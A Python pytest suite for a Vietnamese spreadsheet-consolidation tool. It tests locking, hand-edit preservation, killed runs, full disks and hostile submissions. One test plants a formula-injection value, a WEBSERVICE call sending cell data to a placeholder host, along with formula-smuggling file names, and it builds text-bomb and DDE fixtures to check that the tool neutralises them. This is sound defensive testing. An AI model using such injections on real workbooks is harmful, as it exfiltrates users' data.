"""Nothing lost, nothing injected: the master under concurrent runs, hand edits, odd inputs and faults.

Real files and real processes throughout: two consolidations started at once, kill -9 during a
write, a folder the process may not write (capabilities dropped: tests run as root in CI),
a disk that fills (a file-size limit), hostile names and properties.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.table import TableColumn

from cchc_xl.table.sheets import MASTER_META as META
from cchc_xl.table.sheets import SUMMARY
from cchc_xl.usecases.lock import lock_path
from tests.conftest import convert
from tests.support.corpus import BUILDERS
from tests.support.submissions import UNITS, inbox, submit, summary_dicts, tasks_for

ROOT = Path(__file__).resolve().parents[1]


def cchc(*args, env: dict | None = None, **kw) -> subprocess.CompletedProcess:
    """The real command in its own process; never a traceback, whatever happens."""
    proc = subprocess.run([sys.executable, "-m", "cchc_xl", *map(str, args)], capture_output=True, text=True,
                          timeout=300, env={**os.environ, **(env or {})}, **kw)
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    return proc


def start(*args) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "cchc_xl", *map(str, args)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)


def consolidate_json(*args) -> tuple[int, dict]:
    proc = cchc("consolidate", *args, "--format", "json")
    return proc.returncode, json.loads(proc.stdout) if proc.stdout.strip() else {}


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


# --------------------------------------------------------------------------- 1. two runs at once
def test_two_consolidations_at_once_lose_no_unit(tmp_path, cfg, registry_file):
    a = inbox(tmp_path, cfg, {1: 3}, "a")
    b = inbox(tmp_path, cfg, {2: 4}, "b")
    master = tmp_path / "tong-hop.xlsx"
    runs = [start("consolidate", folder, "-o", master, "--units", registry_file, "--wait", "120") for folder in (a, b)]
    outputs = [run.communicate(timeout=300) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outputs
    units = [r["Đơn vị gửi"] for r in summary_dicts(master)]
    assert units.count(UNITS[0]) == 3 and units.count(UNITS[1]) == 4
    assert not lock_path(master).exists()


def test_a_held_lock_stops_the_second_run_and_says_who_holds_it(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 2})
    master = tmp_path / "tong-hop.xlsx"
    lock_path(master).write_text(json.dumps({"host": socket.gethostname(), "pid": os.getpid(), "user": "van-thu",
                                             "started": "2020-01-10 08:00:00", "token": "x"}), encoding="utf-8")
    proc = cchc("consolidate", folder, "-o", master, "--units", registry_file, "--wait", "0.5")
    assert proc.returncode == 2 and not master.exists()
    assert "đang được tổng hợp" in proc.stderr and f"tiến trình {os.getpid()}" in proc.stderr and "van-thu" in proc.stderr


def test_a_stale_lock_is_broken_and_explained(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 2})
    master = tmp_path / "tong-hop.xlsx"
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    lock_path(master).write_text(json.dumps({"host": socket.gethostname(), "pid": dead.pid, "token": "x"}),
                                 encoding="utf-8")
    proc = cchc("consolidate", folder, "-o", master, "--units", registry_file)
    assert proc.returncode == 0 and "Đã gỡ khóa cũ" in proc.stderr
    assert len(summary_dicts(master)) == 2 and not lock_path(master).exists()


# --------------------------------------------------------------------------- 2. hand edits on the master
def edit_like_a_clerk(master: Path) -> None:
    """What an office does to its master in Excel: a title above the table, a column of its own
    with a formula, a corrected cell, a sheet of its own referring to the table."""
    wb = openpyxl.load_workbook(master)
    ws = wb[SUMMARY]
    ws.insert_rows(1, 2)                      # Excel moves the table with the rows; openpyxl needs telling
    ws["A1"] = "BẢNG TỔNG HỢP NHIỆM VỤ CCHC — VĂN PHÒNG SỞ"
    ws.merge_cells("A1:F1")
    (table,) = ws.tables.values()
    last = 2 + 1 + 8
    table.ref = table.autoFilter.ref = f"A3:R{last}"
    table.tableColumns.append(TableColumn(id=18, name="Người theo dõi"))
    ws["R3"] = "Người theo dõi"
    for r in range(4, last + 1):
        ws.cell(r, 18, f"Chuyên viên {r}")
    ws["R5"] = "=J5*2"                        # a formula of the office's own
    ws["E4"] = "Báo cáo (Văn phòng sửa)"      # a corrected product of a unit that will not resend
    own = wb.create_sheet("Theo dõi riêng")
    own["A1"] = "Tổng kinh phí dòng đầu"
    own["B1"] = "='Tổng hợp'!J4"
    wb.save(master)


@pytest.fixture(scope="module")
def master_edited_once(tmp_path_factory, cfg, registry_file) -> Path:
    """Consolidated by the real command and edited like a clerk, once for the tests below."""
    root = tmp_path_factory.mktemp("edited")
    folder = inbox(root, cfg, {1: 3, 2: 3, 3: 2})
    master = root / "tong-hop.xlsx"
    assert consolidate_json(folder, "-o", master, "--units", registry_file)[0] == 0
    edit_like_a_clerk(master)
    return master


@pytest.fixture
def edited_master(master_edited_once, tmp_path) -> Path:
    """Each test's own copy of that master (byte for byte), alone in its folder: a test changes it."""
    return Path(shutil.copy2(master_edited_once, tmp_path / "tong-hop.xlsx"))


def test_hand_edits_survive_a_resubmission(edited_master, tmp_path, cfg, registry_file):
    edited = edited_master.read_bytes()
    resend = tmp_path / "lan-2"
    resend.mkdir()
    submit(resend, cfg, 2, tasks_for(2, 4), name="phong-2-sua.xlsx", date=dt.date(2020, 2, 1))
    code, data = consolidate_json(resend, "-o", edited_master, "--units", registry_file)
    assert code == 0 and [x["unit"] for x in data["accepted"]] == [UNITS[1]]
    assert edited_master.with_name("tong-hop.bak.xlsx").read_bytes() == edited  # the backup is the edited copy
    wb = openpyxl.load_workbook(edited_master)
    ws = wb[SUMMARY]
    assert ws["A1"].value == "BẢNG TỔNG HỢP NHIỆM VỤ CCHC — VĂN PHÒNG SỞ" and "A1:F1" in ws.merged_cells
    assert ws["R3"].value == "Người theo dõi" and ws.tables["TongHop"].ref == "A3:R12"
    rows = [dict(zip([c.value for c in ws[3]], [c.value for c in row])) for row in ws.iter_rows(min_row=4)]
    mine = {r["Nhiệm vụ"]: r for r in rows}
    assert mine["Nhiệm vụ 1 của phòng 1"]["Sản phẩm"] == "Báo cáo (Văn phòng sửa)"
    assert mine["Nhiệm vụ 1 của phòng 1"]["Người theo dõi"] == "Chuyên viên 4"
    assert mine["Nhiệm vụ 2 của phòng 1"]["Người theo dõi"] == "=J5*2" and ws["R5"].data_type == "f"
    assert mine["Nhiệm vụ 1 của phòng 3"]["Người theo dõi"] == "Chuyên viên 10"
    assert mine["Nhiệm vụ 1 của phòng 2"]["Người theo dõi"] == "Chuyên viên 7", "an unchanged task keeps its notes"
    assert mine["Nhiệm vụ 4 của phòng 2"]["Người theo dõi"] is None
    assert [r["Đơn vị gửi"] for r in rows] == [UNITS[0]] * 3 + [UNITS[1]] * 4 + [UNITS[2]] * 2
    assert wb["Theo dõi riêng"]["B1"].value == "='Tổng hợp'!J4"
    assert wb.sheetnames.index("Theo dõi riêng") < wb.sheetnames.index(META)
    recalculated = convert(edited_master, "xlsx", tmp_path / "lo")  # LibreOffice opens it and computes the formula
    lo = openpyxl.load_workbook(recalculated, data_only=True)[SUMMARY]
    assert lo["R5"].value == 2 * lo["J5"].value


def test_a_formula_moves_with_its_row(edited_master, tmp_path, cfg, registry_file):
    """Unit 1 resends one task fewer: the rows below move up, and so do their formulas' references."""
    wb = openpyxl.load_workbook(edited_master)
    wb[SUMMARY]["R3"] = None
    wb[SUMMARY]["R11"] = "=J11+1"  # on the last row of unit 3
    wb.save(edited_master)
    resend = tmp_path / "lan-2"
    resend.mkdir()
    submit(resend, cfg, 1, tasks_for(1, 2), name="phong-1-sua.xlsx", date=dt.date(2020, 2, 1))
    assert consolidate_json(resend, "-o", edited_master, "--units", registry_file)[0] == 0
    ws = openpyxl.load_workbook(edited_master)[SUMMARY]
    assert ws["D10"].value == "Nhiệm vụ 2 của phòng 3" and ws["R10"].value == "=J10+1"


@pytest.mark.parametrize("edit, named", [
    (lambda ws: setattr(ws["E3"], "value", "Sản phẩm đầu ra"), ["“Sản phẩm”", "“Sản phẩm đầu ra”"]),
    (lambda ws: ws.delete_cols(2), ["“Đơn vị gửi”"]),
    (lambda ws: ws.parent.move_sheet(ws, 0) or setattr(ws, "title", "TH"), ["không thấy trang “Tổng hợp”", "“TH”"]),
    (lambda ws: ws.delete_rows(3), ["không tìm thấy dòng tiêu đề"]),
], ids=["renamed-column", "deleted-column", "renamed-sheet", "deleted-header"])
def test_a_layout_it_cannot_understand_stops_and_writes_nothing(edited_master, tmp_path, cfg, registry_file, edit,
                                                                 named):
    wb = openpyxl.load_workbook(edited_master)
    edit(wb[SUMMARY])
    wb.save(edited_master)
    before = edited_master.read_bytes()
    resend = inbox(tmp_path, cfg, {4: 2}, "lan-2")
    proc = cchc("consolidate", resend, "-o", edited_master, "--units", registry_file)
    assert proc.returncode == 2, proc.stdout
    for words in named:
        assert words in proc.stderr, proc.stderr
    assert edited_master.read_bytes() == before and not edited_master.with_name("tong-hop.bak.xlsx").exists()


# --------------------------------------------------------------------------- 3, 4. blank resubmissions, unchanged runs
def test_a_blank_resubmission_is_rejected_unless_the_unit_withdraws(tmp_path, cfg, registry_file):
    master = tmp_path / "tong-hop.xlsx"
    assert consolidate_json(inbox(tmp_path, cfg, {1: 3, 2: 2}), "-o", master, "--units", registry_file)[0] == 0
    blank = tmp_path / "trong"
    blank.mkdir()
    submit(blank, cfg, 1, [], name="phong-1-trong.xlsx", date=dt.date(2020, 3, 1))
    code, data = consolidate_json(blank, "-o", master, "--units", registry_file)
    assert code == 1 and data["rejected"][0]["unit"] == UNITS[0]
    assert "không có nhiệm vụ nào" in data["rejected"][0]["reasons"][0] and "--withdraw" in data["rejected"][0]["reasons"][0]
    assert [r["Đơn vị gửi"] for r in summary_dicts(master)].count(UNITS[0]) == 3
    code, data = consolidate_json(blank, "-o", master, "--units", registry_file, "--withdraw", "PNV1")
    assert code == 0 and data["accepted"][0]["unit"] == UNITS[0]
    assert [r["Đơn vị gửi"] for r in summary_dicts(master)] == [UNITS[1]] * 2
    assert cchc("consolidate", blank, "-o", master, "--units", registry_file, "--withdraw", "Không có").returncode == 2


def test_an_unchanged_run_writes_nothing(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 2, 3: 2})
    submit(folder, cfg, 5, [{**t, "lead_unit": None} for t in tasks_for(5)])  # rejected each time
    master = tmp_path / "tong-hop.xlsx"
    assert consolidate_json(folder, "-o", master, "--units", registry_file)[0] == 1
    stamp, content = master.stat().st_mtime_ns, master.read_bytes()
    time.sleep(0.05)
    code, data = consolidate_json(folder, "-o", master, "--units", registry_file)
    assert code == 1 and data["written"] is False and data["backup"] is None
    assert master.stat().st_mtime_ns == stamp and master.read_bytes() == content
    assert not master.with_name("tong-hop.bak.xlsx").exists()
    assert "Không có gì thay đổi" in cchc("consolidate", folder, "-o", master, "--units", registry_file).stdout


# --------------------------------------------------------------------------- 5. read-only and linked paths
def test_a_read_only_master_is_refused(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 2})
    master = tmp_path / "tong-hop.xlsx"
    assert consolidate_json(folder, "-o", master, "--units", registry_file)[0] == 0
    master.chmod(0o444)
    before = master.read_bytes()
    proc = cchc("consolidate", inbox(tmp_path, cfg, {2: 2}, "lan-2"), "-o", master, "--units", registry_file)
    assert proc.returncode == 2 and "chỉ đọc" in proc.stderr
    assert master.read_bytes() == before and master.stat().st_mode & 0o777 == 0o444


def test_a_linked_master_is_written_through_and_linked_folders_are_read(tmp_path, cfg, registry_file):
    real = tmp_path / "o-chung" / "tong-hop.xlsx"
    real.parent.mkdir()
    link = tmp_path / "tong-hop.xlsx"
    link.symlink_to(real)
    folder = inbox(tmp_path, cfg, {1: 2})
    (folder / "phong-khac").symlink_to(inbox(tmp_path, cfg, {2: 3}, "ben-ngoai"), target_is_directory=True)
    (folder / "vong-lap").symlink_to(folder, target_is_directory=True)  # a loop must not run forever
    code, data = consolidate_json(folder, "-o", link, "--units", registry_file)
    assert code == 0 and {x["unit"] for x in data["accepted"]} == {UNITS[0], UNITS[1]}
    assert link.is_symlink() and real.exists() and len(summary_dicts(real)) == 5


# --------------------------------------------------------------------------- 6-9. what we write
def test_names_and_properties_never_become_formulas(tmp_path, cfg, registry_file):
    folder = tmp_path / "nop"
    folder.mkdir()
    path = submit(folder, cfg, 1, tasks_for(1), name="=1+1 vp.xlsx")
    wb = openpyxl.load_workbook(path)
    wb["_cchc"]["B1"].value = '=WEBSERVICE("http://example.invalid/?"&A1)'
    wb["_cchc"]["B1"].data_type = "s"
    wb.save(path)
    submit(folder, cfg, 2, [{**t, "lead_unit": None} for t in tasks_for(2)], name="=HYPERLINK(1) pnv2.xlsx")
    master = tmp_path / "tong-hop.xlsx"
    assert consolidate_json(folder, "-o", master, "--units", registry_file)[0] == 1
    assert "<f>" not in sheet_xml(master)
    assert openpyxl.load_workbook(master)[META]["C5"].value  # the unit rows are there, as text
    marked = next((tmp_path / "kiem-tra").glob("*.kiemtra.xlsx"))
    assert "<f>" not in sheet_xml(marked)


def test_a_quote_in_a_sheet_name_keeps_the_jump_links_working(tmp_path):
    source = tmp_path / "odd.xlsx"
    BUILDERS["weird-sheet-name.xlsx"](source)
    assert cchc("check", source, "--annotate").returncode == 1
    ws = openpyxl.load_workbook(tmp_path / "odd.kiemtra.xlsx")["Kết quả kiểm tra"]
    links = [c.hyperlink.location for row in ws.iter_rows() for c in row if c.hyperlink]
    assert links == ["'Phụ lục (bản 2)''s'!D5"]


def test_a_macro_workbook_stays_one_and_a_plain_one_never_becomes_one(tmp_path, cfg, registry_file):
    source = tmp_path / "macro.xlsm"
    BUILDERS["macro.xlsm"](source)
    proc = cchc("fix", source, "-o", tmp_path / "out.xlsx")
    assert proc.returncode == 2 and ".xlsm" in proc.stderr and not (tmp_path / "out.xlsx").exists()
    assert cchc("fix", source).returncode == 0
    with zipfile.ZipFile(tmp_path / "macro.sua.xlsm") as zf:
        assert "macroEnabled" in zf.read("[Content_Types].xml").decode() and "xl/vbaProject.bin" in zf.namelist()
    assert cchc("check", source, "--annotate", "-o", tmp_path / "m.xlsx").returncode == 2
    proc = cchc("consolidate", inbox(tmp_path, cfg, {1: 1}), "-o", tmp_path / "tong-hop.xlsm", "--units", registry_file)
    assert proc.returncode == 2 and ".xlsx" in proc.stderr


def test_an_overlong_joined_task_is_cut_with_a_marker_and_reported(tmp_path, cfg, registry_file):
    folder = tmp_path / "nop"
    folder.mkdir()
    part = "tiếp tục rà soát các văn bản " * 1100
    rows = tasks_for(1, 2) + [{"task": part[:32000]}, {"task": part[:32000]}]
    submit(folder, cfg, 1, rows)
    master = tmp_path / "tong-hop.xlsx"
    code, data = consolidate_json(folder, "-o", master, "--units", registry_file)
    assert code == 0, data
    cell = summary_dicts(master)[1]["Nhiệm vụ"]
    assert len(cell) == 32_767 and cell.endswith("Excel chỉ chứa 32.767]") and "đã cắt bớt" in cell
    assert any(c["code"] == "text-truncated" for c in data["cross_checks"])
    assert cchc("check", folder / "phong-1.xlsx", "--annotate", "--units", registry_file).returncode == 0


# --------------------------------------------------------------------------- 10, 11. odd and hostile submissions
ODD = ["dde-link-without-rels.xlsx", "bad-marks-memory.xlsx", "control-character-escape.xlsx", "budget-309-nines.xlsx",
       "budget-infinite.xlsx", "strict-ooxml.xlsx", "numbers-in-name-cells.xlsx", "shared-string-bomb.xlsx",
       "long-continuation.xlsx", "property-formula.xlsx", "not-a-zip.xlsx"]


def test_odd_submissions_are_judged_alone_and_the_others_consolidated(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 2, 2: 2})
    for i, name in enumerate(ODD, start=3):
        BUILDERS[name](folder / f"pnv{i}-{name}")  # each named after a unit of the registry
    master = tmp_path / "tong-hop.xlsx"
    code, data = consolidate_json(folder, "-o", master, "--units", registry_file, "--period", "2020")
    assert code == 1 and master.exists()
    assert {x["unit"] for x in data["accepted"]} >= {UNITS[0], UNITS[1]}
    judged = {Path(x["path"]).name.split("-", 1)[1]: x for k in ("accepted", "rejected") for x in data[k]
              if Path(x["path"]).name.startswith("pnv")}
    assert set(judged) == set(ODD)
    for name in ("strict-ooxml.xlsx", "shared-string-bomb.xlsx", "not-a-zip.xlsx", "bad-marks-memory.xlsx",
                 "budget-309-nines.xlsx"):
        assert judged[name] in data["rejected"] and judged[name]["reasons"], name
    assert "<f>" not in sheet_xml(master)
    for row in summary_dicts(master):
        assert all(not isinstance(v, str) or len(v) <= 32_767 for v in row.values())


def test_a_text_bomb_is_refused_within_memory(tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    BUILDERS["shared-string-bomb.xlsx"](bomb)
    assert bomb.stat().st_size < 200_000
    measure = ("import resource, subprocess, sys; p = subprocess.run([sys.executable, '-m', 'cchc_xl', 'check', "
               f"{str(bomb)!r}], capture_output=True, text=True); print(p.returncode); print(p.stdout); "
               "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    out = subprocess.run([sys.executable, "-c", measure], capture_output=True, text=True, timeout=120).stdout.split("\n")
    assert out[0] == "2" and "quá nhiều chữ" in out[1]
    assert int(out[-2]) < 500 * 1024, f"peak {int(out[-2]) // 1024} MB"


# --------------------------------------------------------------------------- 12. killed runs
def _children(pid: int) -> set[int]:
    found: set[int] = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        found |= {int(p) for p in (task / "children").read_text().split()}
    return found


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    return "State:\tZ" not in state


def test_killed_mid_write_the_master_is_intact_and_the_next_run_cleans_up(tmp_path, cfg, registry_file):
    folder = tmp_path / "nop"
    folder.mkdir()
    submit(folder, cfg, 1, tasks_for(1, 1))
    master = tmp_path / "tong-hop.xlsx"
    assert consolidate_json(folder, "-o", master, "--units", registry_file)[0] == 0
    before = master.read_bytes()
    big = tmp_path / "lon"
    big.mkdir()
    submit(big, cfg, 2, tasks_for(2, 6000))  # enough rows for the write to take a moment
    run = start("consolidate", big, "-o", master, "--units", registry_file)
    deadline = time.monotonic() + 120
    while not list(tmp_path.glob(".~tong-hop.*")):
        assert run.poll() is None, "the run ended before its write could be interrupted"
        assert time.monotonic() < deadline
        time.sleep(0.005)
    os.killpg(run.pid, signal.SIGKILL)
    run.wait()
    assert master.read_bytes() == before
    assert list(tmp_path.glob(".~tong-hop.*")), "the kill left its temporary file (cleaned by the next run)"
    proc = cchc("consolidate", big, "-o", master, "--units", registry_file)
    assert proc.returncode == 0 and "tệp tạm còn lại" in proc.stderr
    assert not list(tmp_path.glob(".~tong-hop.*")) and len(summary_dicts(master)) == 6001


def test_workers_end_with_their_parent(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {i: 40 for i in range(1, 21)})  # 20 files: checked by a pool of workers
    run = start("consolidate", folder, "-o", tmp_path / "tong-hop.xlsx", "--units", registry_file)
    deadline = time.monotonic() + 60
    workers: set[int] = set()
    while not workers:
        assert run.poll() is None and time.monotonic() < deadline
        workers = _children(run.pid)
        time.sleep(0.01)
    os.kill(run.pid, signal.SIGKILL)
    run.wait()
    time.sleep(2)
    assert not [pid for pid in workers if _running(pid)], "orphaned workers still running"


# --------------------------------------------------------------------------- 13, 14. outputs that cannot be written
def unprivileged() -> list[str]:
    """Run as a user that permissions bind: CI runs tests as root, whom they do not."""
    if os.geteuid() != 0:
        return []
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--"]


def test_a_folder_it_may_not_write_exits_2_naming_it(tmp_path, cfg, registry_file, blank_template):
    shut = tmp_path / "chi-doc"
    shut.mkdir()
    source = shutil.copy(blank_template, shut / "mau.xlsx")
    folder = inbox(tmp_path, cfg, {1: 1})
    shut.chmod(0o555)
    try:
        for args in (["template", "-o", shut / "moi.xlsx"], ["check", source, "--annotate"], ["fix", source],
                     ["consolidate", folder, "-o", shut / "tong-hop.xlsx", "--units", registry_file]):
            proc = subprocess.run([*unprivileged(), sys.executable, "-m", "cchc_xl", *map(str, args)],
                                  capture_output=True, text=True, timeout=120)
            assert proc.returncode == 2, (args, proc.stdout, proc.stderr)
            assert "Traceback" not in proc.stderr and "không có quyền ghi" in proc.stdout + proc.stderr, proc.stderr
            assert str(shut) in proc.stdout + proc.stderr
        assert sorted(p.name for p in shut.iterdir()) == ["mau.xlsx"]
    finally:
        shut.chmod(0o755)


def test_a_full_disk_exits_2_and_leaves_nothing_half_written(tmp_path, cfg, registry_file):
    def small_disk():
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    folder = inbox(tmp_path, cfg, {1: 3})
    out = tmp_path / "ra"
    out.mkdir()
    for args in (["template", "-o", out / "mau.xlsx"], ["consolidate", folder, "-o", out / "tong-hop.xlsx",
                                                       "--units", registry_file]):
        proc = subprocess.run([sys.executable, "-m", "cchc_xl", *map(str, args)], capture_output=True, text=True,
                              timeout=120, preexec_fn=small_disk)
        assert proc.returncode == 2 and "ổ đĩa đã đầy" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert [p.name for p in out.iterdir()] == []


def test_unusable_output_names_exit_2(cli, tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 1})
    result = cli("template", "-o", tmp_path / ("t" * 300 + ".xlsx"))
    assert result.exit_code == 2 and "quá dài" in result.output
    result = cli("consolidate", folder, "-o", tmp_path / "khong" / "co" / "th.xlsx", "--units", registry_file)
    assert result.exit_code == 2 and "không tồn tại" in result.output
    result = cli("consolidate", folder, "-o", tmp_path, "--units", registry_file)
    assert result.exit_code == 2


def test_a_master_open_in_libreoffice_is_not_overwritten(tmp_path, cfg, registry_file):
    folder = inbox(tmp_path, cfg, {1: 1})
    master = tmp_path / "tong-hop.xlsx"
    assert consolidate_json(folder, "-o", master, "--units", registry_file)[0] == 0
    before = master.read_bytes()
    (tmp_path / ".~lock.tong-hop.xlsx#").write_text("van-thu,máy-1,…", encoding="utf-8")
    proc = cchc("consolidate", inbox(tmp_path, cfg, {2: 1}, "lan-2"), "-o", master, "--units", registry_file)
    assert proc.returncode == 2 and "LibreOffice" in proc.stderr and master.read_bytes() == before


def test_lock_files_of_office_programs_are_not_submissions(cli, tmp_path, cfg):
    folder = inbox(tmp_path, cfg, {1: 1})
    (folder / ".~lock.phong-1.xlsx#").write_text("x", encoding="utf-8")
    (folder / "~$phong-1.xlsx").write_bytes(b"x")
    code, data = cli.json("check", folder)
    assert data["summary"]["files"] == 1
